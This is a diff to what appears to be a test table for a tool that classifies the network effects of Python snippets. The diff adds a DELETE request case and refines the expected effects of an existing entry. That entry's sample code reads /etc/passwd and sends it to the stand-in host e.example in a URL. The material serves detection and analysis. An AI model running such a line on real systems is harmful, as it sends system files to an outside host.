@@ -268,7 +268,12 @@ table("python", "the network", [
   {
     why: "data in the address is sent",
     code: "import urllib.request\nurllib.request.urlopen('https://e.example/?' + open('/etc/passwd').read())",
-    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
+    does: ["read /etc/passwd", "send GET e.example +/etc/passwd", "receive e.example"],
+  },
+  {
+    why: "a request that takes something away",
+    code: "import requests; requests.delete('https://e.example/v1/x')",
+    does: ["send DELETE e.example", "receive e.example"],
   },
   {
     why: "a download is written, untrusted",
